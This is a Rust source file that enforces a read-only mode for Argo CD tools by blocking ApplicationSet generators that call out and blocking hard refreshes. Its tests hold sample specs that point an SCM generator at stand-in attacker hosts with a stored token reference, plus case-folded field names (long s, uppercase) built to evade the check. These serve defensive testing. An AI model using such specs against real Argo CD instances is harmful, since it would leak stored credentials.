//! What read-only mode (`ARGOCD_READ_ONLY`) allows of the tools that change nothing in Argo CD
//! but make it work outside its own state. Read-only means nothing runs that reaches beyond
//! what Argo CD already holds: an ApplicationSet preview runs only generators that read Argo
//! CD's own objects, and a refresh only re-compares (a hard refresh re-renders from git).

use serde_json::Value;

use crate::argocd::ArgoError;

/// Generators that read only what Argo CD holds: `list` (its elements), `clusters` (its cluster
/// secrets), and `matrix`/`merge` when every generator they combine is one of these.
const OFFLINE_GENERATORS: [&str; 4] = ["list", "clusters", "matrix", "merge"];

/// A key beside a generator that is no generator: its post-selector.
const NOT_A_GENERATOR: &str = "selector";

/// Refuses a preview whose generators would make Argo CD call out: `git` clones, `scmProvider`
/// and `pullRequest` call SCM APIs with the tokens Argo CD stores (at an `api` URL the spec
/// names), `plugin` calls a plugin service, `clusterDecisionResource` reads any custom resource.
pub fn check_preview_generators(applicationset: &Value) -> Result<(), ArgoError> {
    // Argo CD decodes the spec with Go's encoding/json, which matches field names ignoring case
    // (`Generators`, even `generatorſ` with a long s): a spelling that is not the one looked up
    // here could carry generators past this check, so it is refused.
    if let Some(spelled) = misspelled_field(applicationset) {
        return Err(ArgoError::invalid_input(format!(
            "this server is read-only (ARGOCD_READ_ONLY): write the field {spelled:?} exactly as Argo CD names it (lower case); Argo CD would read it as one this check judges, so it is refused. Nothing was sent"
        )));
    }
    let generators = applicationset
        .pointer("/spec/generators")
        .and_then(Value::as_array)
        .map_or(&[][..], Vec::as_slice);
    let mut calling_out = Vec::new();
    collect_calling_out(generators, &mut calling_out);
    if calling_out.is_empty() {
        return Ok(());
    }
    calling_out.sort_unstable();
    calling_out.dedup();
    Err(ArgoError::invalid_input(format!(
        "this server is read-only (ARGOCD_READ_ONLY): preview_argocd_applicationset runs only list, clusters, matrix and merge generators here, and this spec has {}. Argo CD runs those by reaching outside its own state (cloning repositories, calling SCM or plugin APIs with the credentials it stores), which read-only rules out. Preview it where changes are allowed, or with a list generator holding the values to try",
        calling_out.join(", ")
    )))
}

/// The fields this check looks up by exact name.
const JUDGED_FIELDS: [&str; 2] = ["spec", "generators"];

/// A key anywhere in `value` that Go's case-insensitive matching (ASCII case, plus the Kelvin
/// sign for `k` and the long s for `s`) takes for a judged field but that is not spelled as one.
fn misspelled_field(value: &Value) -> Option<String> {
    match value {
        Value::Object(map) => map.iter().find_map(|(key, inner)| {
            let folded: String = key
                .chars()
                .map(|c| match c {
                    '\u{212a}' => 'k',
                    '\u{17f}' => 's',
                    c => c.to_ascii_lowercase(),
                })
                .collect();
            if JUDGED_FIELDS.contains(&folded.as_str()) && folded != *key {
                Some(key.clone())
            } else {
                misspelled_field(inner)
            }
        }),
        Value::Array(items) => items.iter().find_map(misspelled_field),
        _ => None,
    }
}

fn collect_calling_out(generators: &[Value], found: &mut Vec<String>) {
    for generator in generators {
        let Some(kinds) = generator.as_object() else {
            continue;
        };
        for (kind, inner) in kinds {
            if kind == NOT_A_GENERATOR {
                continue;
            }
            if !OFFLINE_GENERATORS.contains(&kind.as_str()) {
                found.push(kind.clone());
                continue;
            }
            if let Some(nested) = inner.get("generators").and_then(Value::as_array) {
                collect_calling_out(nested, found);
            }
        }
    }
}

/// Refuses a hard refresh in read-only mode: it makes Argo CD re-render every manifest from git
/// (the repo-server clones, runs Helm, Kustomize or plugins), on demand and as often as asked.
pub fn refuse_hard_refresh() -> ArgoError {
    ArgoError::invalid_input(
        "this server is read-only (ARGOCD_READ_ONLY): a hard refresh makes Argo CD re-render every manifest from git (cloning and running Helm, Kustomize or plugins), which read-only rules out; refresh without hard (it re-compares with what Argo CD already has)",
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn refused(generators: Value) -> Option<String> {
        check_preview_generators(&json!({"spec": {"generators": generators}}))
            .err()
            .map(|e| e.to_string())
    }

    #[test]
    fn a_judged_field_spelled_otherwise_is_refused() {
        let scm = json!([{"scmProvider": {"github": {"api": "https://attacker.example.com"}}}]);
        for spec in [
            json!({"spec": {"Generators": scm}}),
            json!({"Spec": {"generators": scm}}),
            json!({"spec": {"generatorſ": scm}}),
            json!({"spec": {"generators": [{"matrix": {"GENERATORS": scm}}]}}),
        ] {
            assert!(check_preview_generators(&spec).is_err(), "{spec}");
        }
    }

    #[test]
    fn generators_that_read_argo_cds_own_state_are_allowed() {
        for generators in [
            json!([{"list": {"elements": [{"env": "dev"}]}}]),
            json!([{"clusters": {"selector": {"matchLabels": {"env": "prod"}}}}]),
            json!([{"list": {"elements": []}, "selector": {"matchLabels": {"a": "b"}}}]),
            json!([{"matrix": {"generators": [{"clusters": {}}, {"list": {"elements": []}}]}}]),
            json!([{"merge": {"mergeKeys": ["server"], "generators": [{"clusters": {}}, {"matrix": {"generators": [{"list": {}}, {"clusters": {}}]}}]}}]),
            json!([]),
        ] {
            assert_eq!(refused(generators.clone()), None, "{generators}");
        }
    }

    #[test]
    fn generators_that_call_out_are_refused_and_named() {
        for (generators, named) in [
            (
                json!([{"scmProvider": {"github": {"organization": "o", "api": "https://evil.example.com", "tokenRef": {"secretName": "github-token", "key": "token"}}}}]),
                "scmProvider",
            ),
            (
                json!([{"pullRequest": {"github": {"owner": "o", "repo": "r"}}}]),
                "pullRequest",
            ),
            (
                json!([{"git": {"repoURL": "https://git.example.com/a.git", "revision": "HEAD"}}]),
                "git",
            ),
            (
                json!([{"plugin": {"configMapRef": {"name": "p"}}}]),
                "plugin",
            ),
            (
                json!([{"clusterDecisionResource": {"configMapRef": "c"}}]),
                "clusterDecisionResource",
            ),
            // Hidden inside a combination, at any depth.
            (
                json!([{"matrix": {"generators": [{"clusters": {}}, {"git": {}}]}}]),
                "git",
            ),
            (
                json!([{"merge": {"generators": [{"list": {}}, {"matrix": {"generators": [{"scmProvider": {}}]}}]}}]),
                "scmProvider",
            ),
            (
                json!([{"list": {}}, {"someFutureGenerator": {}}]),
                "someFutureGenerator",
            ),
        ] {
            let message =
                refused(generators.clone()).unwrap_or_else(|| panic!("{generators} allowed"));
            assert!(
                message.contains(named) && message.contains("read-only"),
                "{message}"
            );
        }
    }
}
